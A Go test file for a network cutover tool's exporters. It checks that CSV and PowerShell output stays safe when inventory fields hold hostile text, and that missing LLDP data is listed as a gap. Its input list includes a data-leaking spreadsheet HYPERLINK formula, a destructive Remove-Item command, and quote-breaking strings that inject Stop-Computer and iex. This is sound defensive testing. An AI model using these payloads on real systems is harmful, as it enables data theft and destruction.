package export_test

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"

	"cutover/internal/safetext"
	"cutover/site"
	"cutover/site/export"
	"cutover/site/runbook"
)

// hostileText is inventory text that tries to break out of a CSV cell or
// a PowerShell literal.
var hostileText = []string{
	`=HYPERLINK("http://x/?"&A1,"click")`, `+SUM(1,2)`, `@cmd`, `-2+3`, `Room "A", left`,
	"two\nlines", `$(Remove-Item -Recurse -Force C:\)`, "it's'; Stop-Computer; '", "a\u2019); iex 'calc'; (\u2018",
	"`$env:USERNAME", "#comment\r\nStop-Computer",
}

func isQuote(r rune) bool {
	return r == '\'' || r == '\u2018' || r == '\u2019' || r == '\u201a' || r == '\u201b'
}

// literals splits a script line into its single-quoted literals by
// PowerShell's rule, and the code between them.
func literals(t *testing.T, line string) (lits []string, code string) {
	t.Helper()
	rs := []rune(line)
	var c []rune
	for i := 0; i < len(rs); i++ {
		if !isQuote(rs[i]) {
			c = append(c, rs[i])
			continue
		}
		var v []rune
		i++
		for ; ; i++ {
			if i >= len(rs) {
				t.Fatalf("a literal never ends: %s", line)
			}
			if isQuote(rs[i]) {
				if i+1 < len(rs) && isQuote(rs[i+1]) {
					v = append(v, rs[i+1])
					i++
					continue
				}
				break
			}
			v = append(v, rs[i])
		}
		lits = append(lits, string(v))
		c = append(c, 'Q')
	}
	return lits, string(c)
}

func TestHostileTextCannotBreakTheCSVOrTheScript(t *testing.T) {
	var positions []site.Position
	var rows []export.Retire
	for i, h := range hostileText {
		label := "PE-" + string(rune('A'+i))
		positions = append(positions, site.Position{Site: "KX", Label: label, Building: h, Floor: h, Room: h,
			Plan: site.PlanTeamsDDI, Switch: "kx-sw1", Port: "Gi1/0/" + string(rune('1'+i))})
		rows = append(rows, export.Retire{Site: "KX", Position: label, Building: h, Model: h, Vendor: "cisco",
			DeviceName: h, Serial: h, WTNRef: h})
	}
	read := []site.SwitchLLDP{{Switch: "127.0.0.1:16101", SysName: "kx-sw1", ChassisID: "x'; Stop-Computer; '", ChassisIDSubtype: 7}}
	for i := range positions {
		read[0].Ports = append(read[0].Ports, site.ObservedPort{Port: positions[i].Port, PortID: hostileText[i], PortIDSubtype: 7})
	}
	st := site.Site{Code: "KX", Name: hostileText[0], Address: hostileText[7]}
	lis := runbook.BuildLIS(st, positions, read, nil, nil, false)
	if len(lis.Ports) != len(hostileText) {
		t.Fatalf("%d ports; want %d: %+v", len(lis.Ports), len(hostileText), lis.Gaps)
	}

	// CSV: every record has every column, and every cell reads back as
	// its guarded value (a formula starts with ').
	var b bytes.Buffer
	must(t, export.WriteRetire(&b, "csv", []string{"KX"}, rows))
	recs, err := csv.NewReader(&b).ReadAll()
	must(t, err)
	if len(recs) != len(rows)+1 {
		t.Fatalf("%d records; want %d", len(recs), len(rows)+1)
	}
	for i, r := range rows {
		if got := recs[i+1][2]; got != safetext.CSVCell(r.Building) {
			t.Errorf("building %q reads back as %q", r.Building, got)
		}
		if c := recs[i+1][2]; c != "" && strings.ContainsRune("=+@", rune(c[0])) {
			t.Errorf("cell %q starts a formula", c)
		}
	}
	b.Reset()
	must(t, export.WriteLIS(&b, "csv", []string{"KX"}, lis))
	lrecs, err := csv.NewReader(&b).ReadAll()
	must(t, err)
	if len(lrecs) != 1+len(lis.Switches)+len(lis.Ports) {
		t.Errorf("%d LIS records", len(lrecs))
	}

	// The Cisco bulk delete file holds device names of the SEP form only.
	b.Reset()
	must(t, export.WriteRetire(&b, "cisco-bat", nil, rows))
	if b.Len() != 0 {
		t.Errorf("the Cisco file took hostile device names: %q", b.String())
	}

	// PowerShell: every line is code with whole literals, the code the
	// same whatever the text, and each literal reads back as the text.
	b.Reset()
	must(t, export.WriteLIS(&b, "ps1", []string{"KX"}, lis))
	script := b.String()
	if strings.ContainsRune(script, '\r') {
		t.Errorf("a carriage return in the script")
	}
	wantCode := map[string]string{
		"Set-CsOnlineLisSwitch": "Set-CsOnlineLisSwitch -ChassisID Q -LocationId $LocationIds[Q] -Description Q",
		"Set-CsOnlineLisPort":   "Set-CsOnlineLisPort -ChassisID Q -PortID Q -LocationId $LocationIds[Q] -Description Q",
	}
	ports := 0
	for _, line := range strings.Split(script, "\n") {
		if strings.HasPrefix(line, "#") {
			continue // a comment runs to the end of its line, and no text holds a line break
		}
		lits, code := literals(t, line)
		cmd, _, _ := strings.Cut(code, " ")
		if w, ok := wantCode[cmd]; ok {
			if code != w {
				t.Errorf("line's code is %q; want %q\n%s", code, w, line)
			}
			if cmd == "Set-CsOnlineLisPort" {
				if lits[1] != safetext.Terminal(hostileText[ports], false) {
					t.Errorf("port ID %q reads back as %q", hostileText[ports], lits[1])
				}
				ports++
			}
			continue
		}
		trimmed := strings.TrimSpace(line)
		switch {
		case trimmed == "", strings.HasPrefix(trimmed, "#"), code == "    Q = Q", strings.HasPrefix(code, "Set-StrictMode"),
			strings.HasPrefix(code, "$ErrorActionPreference"), strings.HasPrefix(code, "$LocationIds = @{"), trimmed == "}",
			strings.HasPrefix(code, "$missing"), strings.HasPrefix(code, "if ($missing"), strings.HasPrefix(code, "    throw (Q"):
		default:
			t.Errorf("unexpected script line: %s", line)
		}
	}
	if ports != len(hostileText) {
		t.Errorf("%d port lines; want %d", ports, len(hostileText))
	}
}

// TestLISGapsAreListedNotGuessed: a switch not read, a chassis ID not
// given, a port without an LLDP port ID and a position without a port are
// gaps, each saying why.
func TestLISGapsAreListedNotGuessed(t *testing.T) {
	positions := []site.Position{
		{Site: "KX", Label: "PE-01", Plan: site.PlanTeamsDDI, Switch: "kx-sw1", Port: "Gi1/0/1"},
		{Site: "KX", Label: "PE-02", Plan: site.PlanTeamsDDI, Switch: "kx-sw1", Port: "Gi1/0/9"},
		{Site: "KX", Label: "PE-03", Plan: site.PlanTeamsDDI, Switch: "kx-sw2", Port: "3"},
		{Site: "KX", Label: "PE-04", Plan: site.PlanTeamsDDI, Switch: "kx-sw3", Port: "1"},
		{Site: "KX", Label: "PE-05", Plan: site.PlanTeamsDDI},
		{Site: "KX", Label: "FC-01", Plan: site.PlanAvayaFixed, Switch: "kx-sw1", Port: "Gi1/0/2"},
	}
	read := []site.SwitchLLDP{
		{Switch: "10.0.0.1:161", SysName: "kx-sw1.example", ChassisID: "00:5d:73:41:01:00", ChassisIDSubtype: 4,
			Ports: []site.ObservedPort{{Port: "GigabitEthernet1/0/1", PortID: "Gi1/0/1", PortIDSubtype: 5}, {Port: "Gi1/0/2", PortID: "Gi1/0/2", PortIDSubtype: 5}}},
		{Switch: "10.0.0.3:161", SysName: "kx-sw3"},
	}
	l := runbook.BuildLIS(site.Site{Code: "KX", Address: "1 Road"}, positions, read, nil, nil, false)
	if len(l.Ports) != 1 || l.Ports[0].Position != "PE-01" || l.Ports[0].ChassisID != "00-5D-73-41-01-00" || l.Ports[0].PortID != "Gi1/0/1" {
		t.Errorf("ports %+v", l.Ports)
	}
	var got []string
	for _, g := range l.Gaps {
		got = append(got, g.Position+"|"+g.Switch+"|"+g.Reason)
	}
	want := []string{
		"|kx-sw2|switch not read by discovery",
		"|kx-sw3|the switch gave no LLDP chassis ID (lldpLocChassisId)",
		"PE-02|kx-sw1|discovery read no LLDP port ID (lldpLocPortId) for port Gi1/0/9",
		"PE-03|kx-sw2|switch not read by discovery",
		"PE-04|kx-sw3|the switch gave no LLDP chassis ID (lldpLocChassisId)",
		"PE-05||the inventory names no switch and port",
	}
	if strings.Join(got, "\n") != strings.Join(want, "\n") {
		t.Errorf("gaps:\n%s\nwant:\n%s", strings.Join(got, "\n"), strings.Join(want, "\n"))
	}
	if all := runbook.BuildLIS(site.Site{Code: "KX"}, positions, read, nil, nil, true); len(all.Ports) != 2 {
		t.Errorf("--all-ports: %+v", all.Ports)
	}
}
